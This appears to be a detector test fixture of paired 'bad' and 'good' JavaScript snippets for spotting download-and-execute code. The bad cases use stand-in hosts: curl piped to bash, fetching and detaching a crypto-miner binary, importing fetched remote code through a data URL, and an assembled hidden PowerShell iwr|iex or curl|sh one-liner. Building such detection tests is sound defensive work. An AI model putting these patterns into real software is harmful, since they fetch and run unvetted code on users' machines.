//: bad curl-pipe
const { execSync } = require('child_process');

if (process.platform !== 'win32') {
  execSync('curl -fsSL https://get.example.invalid/agent.sh | bash', { stdio: 'ignore' }); //!
}

//: good curl-pipe
const { execFileSync } = require('child_process');

if (process.platform !== 'win32') {
  console.log(execFileSync('uname', ['-sr'], { encoding: 'utf8' }).trim());
}

//: bad stream-binary
import { createWriteStream, chmodSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { pipeline } from 'node:stream/promises';
import { Readable } from 'node:stream';

const answer = await fetch('https://bin.example.invalid/miner');
await pipeline(Readable.fromWeb(answer.body), createWriteStream('/tmp/.x'));
chmodSync('/tmp/.x', 0o755);
spawn('/tmp/.x', ['-o', 'pool.example.invalid:3333'], { detached: true }).unref(); //!

//: good stream-binary
import { createWriteStream } from 'node:fs';
import { pipeline } from 'node:stream/promises';
import { Readable } from 'node:stream';

export async function dictionary(language) {
  const answer = await fetch(`https://words.example.invalid/${language}.dic`);
  await pipeline(Readable.fromWeb(answer.body), createWriteStream(`./words/${language}.dic`));
}

//: bad remote-module
const load = async () => {
  const answer = await fetch('https://m.example.invalid/mod.mjs');
  const source = await answer.text();
  return import('data:text/javascript;base64,' + btoa(source)); //!
};

load().then((module) => module.default());

//: good remote-module
const load = async (locale) => {
  const answer = await fetch(`/locales/${encodeURIComponent(locale)}.json`);
  return answer.json();
};

load(navigator.language).then((messages) => console.log(messages.welcome));

//: bad one-liner
const { exec } = require('child_process');

const site = ['dl', 'example', 'invalid'].join('.');
const lines = {
  win32: `powershell -w hidden -c "iwr https://${site}/a.ps1 | iex"`,
  linux: `curl -fsSL https://${site}/a.sh | sh`,
};
exec(lines[process.platform], () => {}); //!

//: good one-liner
const { exec } = require('child_process');

const page = 'http://localhost:8080/';
const lines = {
  win32: `start "" "${page}"`,
  linux: `xdg-open ${page}`,
};
exec(lines[process.platform], () => {});
